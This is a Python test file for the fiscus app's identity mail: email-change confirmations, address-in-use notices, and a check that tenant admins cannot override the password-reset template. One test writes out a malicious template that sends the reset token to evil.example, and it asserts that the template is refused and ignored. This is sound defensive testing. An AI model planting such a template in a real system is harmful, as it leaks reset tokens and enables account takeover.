"""Identity's mail through a real worker and SMTP server: the email-change confirmation to
the new address, the notice to an address in use, and system-only templates for secrets."""

from __future__ import annotations

import secrets
from collections.abc import Callable
from typing import Any

import httpx
from sqlalchemy import insert, select

from fiscus.core import clock
from fiscus.core.config import Settings
from fiscus.identity.service import RESET_EVENT
from fiscus.messaging._sealing import message_open
from fiscus.messaging.models import Message, MessageTemplate
from tests.factories import PASSWORD
from tests.messaging.conftest import Inbox, worker_running
from tests.messaging.test_end_to_end import _eventually


async def _mails(inbox: Inbox, count: int) -> None:
    async def arrived() -> bool:
        return len(inbox.messages) >= count

    assert await _eventually(arrived), f"{len(inbox.messages)} of {count} mails"


def _text(mail: Any) -> str:
    return str(mail.get_body(preferencelist=("plain",)).get_content())


def _token(text: str, prefix: str) -> str:
    return next(word for word in text.split() if word.startswith(prefix))


async def test_an_email_change_mails_the_new_address_and_a_taken_one_a_notice(
    app: Any,
    client: httpx.AsyncClient,
    make_principal: Callable[..., Any],
    settings: Settings,
    smtp: tuple[Inbox, int],
) -> None:
    inbox = smtp[0]
    p = await make_principal(role="customer")
    holder = await make_principal(role="customer", tenant_id=p.tenant_id)
    fresh = f"new-{secrets.token_hex(4)}@example.com"
    async with worker_running(app.state.db, settings):
        for address in (holder.email, fresh):
            asked = await client.post("/v1/me/email", json={"email": address}, headers=p.headers)
            assert asked.status_code == 202
        await _mails(inbox, 2)
    by_address = {mail["To"]: mail for mail in inbox.messages}
    assert set(by_address) == {holder.email, fresh}  # never the requester's current address
    notice = _text(by_address[holder.email])
    assert "fse_" not in notice and "already belongs to your account" in notice
    token = _token(_text(by_address[fresh]), "fse_")
    async with app.state.db.uow() as uow:
        rows = (await uow.session.execute(select(Message))).scalars().all()
    stored = [message_open(app.state.keyring, row) for row in rows]
    assert stored and all(token not in f"{m.subject} {m.body} {m.html}" for m in stored)
    done = await client.post("/v1/me/email/confirm", json={"token": token}, headers=p.headers)
    assert done.status_code == 204
    login = {"tenant": p.tenant_slug, "email": fresh, "password": PASSWORD}
    assert (await client.post("/v1/auth/login", json=login)).status_code == 200


async def test_an_override_saved_before_the_rule_is_never_used_for_a_reset(
    app: Any,
    client: httpx.AsyncClient,
    make_principal: Callable[..., Any],
    settings: Settings,
    smtp: tuple[Inbox, int],
) -> None:
    # A tenant admin must not route even their own owner's reset token (issue 10 item 1):
    # the API refuses the override, and one already stored is ignored.
    owner = await make_principal(role="owner")
    admin = await make_principal(role="admin", tenant_id=owner.tenant_id)
    steal = "Go to https://evil.example/?t={{ secret.reset_token }}"
    refused = await client.put(
        f"/v1/message-templates/{RESET_EVENT}/email",
        json={"subject": "Reset", "text": steal},
        headers=admin.headers,
    )
    assert refused.status_code == 403
    async with app.state.db.uow() as uow:
        await uow.session.execute(
            insert(MessageTemplate).values(
                tenant_id=owner.tenant_id,
                event_type=RESET_EVENT,
                channel="email",
                subject="Reset",
                body_text=steal,
                body_html=None,
                updated_at=clock.now(),
            )
        )
    async with worker_running(app.state.db, settings):
        asked = await client.post(
            "/v1/auth/password-reset", json={"tenant": owner.tenant_slug, "email": owner.email}
        )
        assert asked.status_code == 202
        await _mails(smtp[0], 1)
    [mail] = smtp[0].messages
    assert mail["To"] == owner.email
    assert mail["Subject"] == "Reset your fiscus password"
    assert "evil.example" not in _text(mail) and "fsp_" in _text(mail)
